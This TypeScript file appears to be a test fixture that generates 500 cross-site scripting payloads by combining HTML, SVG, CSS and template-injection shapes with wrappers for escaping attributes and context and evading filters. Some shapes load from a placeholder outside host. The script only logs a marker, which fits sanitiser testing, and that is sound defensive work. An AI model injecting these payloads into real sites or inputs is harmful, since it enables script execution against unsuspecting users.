// Five hundred texts that are script to whoever takes them for markup, an address, a style or a template.

/** What a script that runs says; it is listened for in every page. */
export const mark = 'battery-script-ran';
const code = `console.log('${mark}')`;
const elsewhere = 'http://elsewhere.invalid/x';

/** Each runs, or asks another host for something, when it is put into a page as it is. */
const shapes: readonly string[] = [
  `<img src=x onerror=${code}>`, `<svg onload=${code}>`, `<script>${code}</script>`, `<script src=${elsewhere}></script>`, `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<iframe src="javascript:parent.${code}"></iframe>`, `<details open ontoggle=${code}>x`, `<video><source onerror=${code}></video>`, `<audio src=x onerror=${code}>`, `<input autofocus onfocus=${code}>`,
  `<body onload=${code}>`, `<a href="javascript:${code}">x</a>`, `<form action="${elsewhere}"><button autofocus onfocus=${code}>`, `<object data="javascript:${code}"></object>`, `<embed src="${elsewhere}">`,
  `<style>@import '${elsewhere}';*{background:url(${elsewhere})}</style>`, `<link rel=stylesheet href=${elsewhere}>`, `<base href=${elsewhere}>`, `<meta http-equiv=refresh content="0;url=${elsewhere}">`, `<img src=${elsewhere}>`,
  `<svg><animate onbegin=${code} attributeName=x dur=1s>`, `<math><mi xlink:href="javascript:${code}">x</mi></math>`, `<svg><style><img src=x onerror=${code}></style></svg>`, `{@html "<img src=x onerror=${code}>"}`, `\${${code}}{{constructor.constructor("${code}")()}}`,
];

/** How each comes along: out of an attribute, an element, a comment, an answer in XML, in other letters, behind other marks. */
const wraps: readonly ((shape: string) => string)[] = [
  (shape) => shape, (shape) => `">${shape}`, (shape) => `'>${shape}`, (shape) => `</title>${shape}`, (shape) => `</textarea>${shape}`, (shape) => `--></script></style>${shape}`, (shape) => `]]>${shape}`,
  (shape) => `<root><en>${shape}</en><fr>${shape}</fr></root>`, (shape) => shape.replaceAll('<', '&lt;').replaceAll('>', '&gt;'), (shape) => shape.replace(/<(\w+)/g, (_, name: string) => `<${name.toUpperCase()}`),
  (shape) => shape.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'), (shape) => `\u202e${shape}`, (shape) => `a\n${shape}`, (shape) => `{a|${shape}}{b}`, (shape) => `javascript:${code}//${shape}`,
  (shape) => `" onmouseover="${code}" x="${shape}`, (shape) => `url(${elsewhere});${shape}`, (shape) => shape.replace('<', '<\u0000'), (shape) => encodeURIComponent(shape), (shape) => `<b>${shape}</b>`,
];

export const payloads: readonly string[] = shapes.flatMap((shape) => wraps.map((wrap) => wrap(shape)));
